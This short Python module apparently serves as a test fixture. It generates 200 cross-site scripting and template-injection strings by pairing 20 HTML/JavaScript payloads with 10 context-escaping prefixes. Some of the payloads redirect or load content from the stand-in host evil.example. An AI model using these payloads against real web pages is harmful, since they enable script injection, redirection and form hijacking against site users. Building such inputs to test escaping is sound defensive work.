"""Two hundred texts that try to get out of their place on a page: names, comments and notations of an enemy."""

from __future__ import annotations

from itertools import product

_PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<kb-board></kb-board><script>alert(1)</script>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)//",
    "\u202eright to left\u202c",
)
_AROUND = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "-->{}",
    "]]>{}",
    "</title>{}",
    "</textarea>{}",
    "</svg></math>{}",
)


def injections() -> list[str]:
    """All of them, each once."""
    return [around.replace("{}", payload) for payload, around in product(_PAYLOADS, _AROUND)]
